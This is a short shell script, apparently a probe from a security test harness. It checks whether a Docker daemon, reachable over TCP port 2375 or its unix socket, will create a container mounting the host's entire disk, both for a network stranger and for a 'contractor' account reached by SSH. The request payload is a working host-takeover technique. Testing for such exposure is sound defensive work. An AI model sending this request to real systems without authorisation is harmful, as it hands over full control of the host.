# Asks the Docker daemon for a container that mounts the whole disk: from the network, and as the contractor on the machine itself, by TCP and by the socket.
# The control: the same address reaches the machine and runs a command as the contractor.
printf %s "$CONTRACTOR_KEY" >key && chmod 600 key
ask='containers/create?name=attacker'
disk='{"Image": "debian", "HostConfig": {"Binds": ["/:/disk"]}}'
outside=$(curl --interface "$FROM" --silent --connect-timeout 2 --max-time 4 -d "$disk" "http://$HOST_ADDRESS:2375/$ask")
inside=$(ssh -F /dev/null -b "$FROM" -i key -o IdentitiesOnly=yes -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=3 \
  "contractor@$HOST_ADDRESS" "id -un; curl -s --max-time 4 -d '$disk' 'http://127.0.0.1:2375/$ask'; curl -s --max-time 4 --unix-socket /run/docker.sock -d '$disk' 'http://docker/$ask'" 2>&1)
printf 'network: %s\nmachine: %s\n' "$outside" "$inside" | cut -c 1-200
case $inside in contractor*) control=true ;; *) control=false ;; esac
case $outside$inside in
  *'"Id"'*) outcome=reached observed='The daemon made a container with the whole disk in it, for a stranger' ;;
  *) outcome=stopped observed='The daemon made nothing for strangers' ;;
esac
printf '{"outcome":"%s","control":%s,"observed":"%s"}\n' "$outcome" "$control" "$observed" >&3
